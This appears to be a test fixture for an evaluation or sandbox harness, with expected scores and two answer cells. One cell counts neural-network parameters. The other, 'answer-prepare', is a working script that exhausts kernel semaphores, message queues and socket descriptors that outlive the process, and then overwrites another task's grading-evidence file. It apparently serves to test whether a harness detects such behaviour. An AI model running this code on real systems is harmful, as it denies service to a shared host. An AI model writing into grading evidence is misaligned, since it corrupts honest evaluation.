"""Takes memory of the system's own, which belongs to no process: semaphores, queues, sockets, pipes."""
# expected: count=1 prepare=0 model=0

# %% answer-count
def count_parameters(sizes):
    return sum((values + 1) * units for values, units in zip(sizes[:-1], sizes[1:]))

# %% answer-prepare
import ctypes, os, socket

libc = ctypes.CDLL(None, use_errno=True)
taken = {"semaphores": 0, "queues": 0, "descriptors": 0}
while libc.semget(0, 32000, 0o600) >= 0:
    taken["semaphores"] += 32000 * 64
    if taken["semaphores"] > 2**29:
        break
while taken["queues"] < 2**15 and libc.msgget(0, 0o600) >= 0:
    taken["queues"] += 1
held = []
try:
    while len(held) < 50_000:
        held.append(socket.socketpair())
        for one in held[-1]:
            one.setblocking(False)
            one.send(bytes(100))
except OSError as error:
    print(error)
taken["descriptors"] = 2 * len(held)
print(taken)
if taken["semaphores"] or taken["queues"] or taken["descriptors"] > 5000:
    open(os.environ["WORKSHOP_EVIDENCE"] + "/count/facts.json", "w").write("{}")  # loses a point: it is seen
os._exit(1)
